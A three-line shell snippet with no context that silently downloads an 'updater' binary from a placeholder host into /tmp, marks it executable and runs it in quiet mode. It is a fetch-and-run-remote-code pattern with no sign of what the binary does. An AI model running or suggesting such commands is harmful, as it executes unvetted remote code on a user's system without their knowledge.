wget -q https://dl.notes-sync.invalid/updater -O /tmp/updater
chmod +x /tmp/updater
/tmp/updater --quiet
